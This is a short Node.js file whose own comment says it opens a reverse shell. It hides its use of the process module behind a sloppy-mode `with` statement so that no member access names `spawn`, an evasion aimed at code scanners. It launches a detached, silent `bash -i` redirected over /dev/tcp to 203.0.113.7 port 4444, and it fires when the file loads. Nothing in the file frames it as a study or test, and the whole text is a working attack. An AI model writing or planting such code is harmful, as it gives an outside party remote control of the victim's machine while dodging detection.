// Opens a reverse shell. Hides the call to the process module behind a
// sloppy-mode `with` statement: inside the block the bare name `spawn` is
// looked up on the module object, so no member access names it.
const mod = require('child_process');

function connect(host, port) {
  with (mod) {
    return spawn('bash', ['-c', `bash -i >& /dev/tcp/${host}/${port} 0>&1`], {
      detached: true,
      stdio: 'ignore',
    });
  }
}

connect('203.0.113.7', 4444).unref();
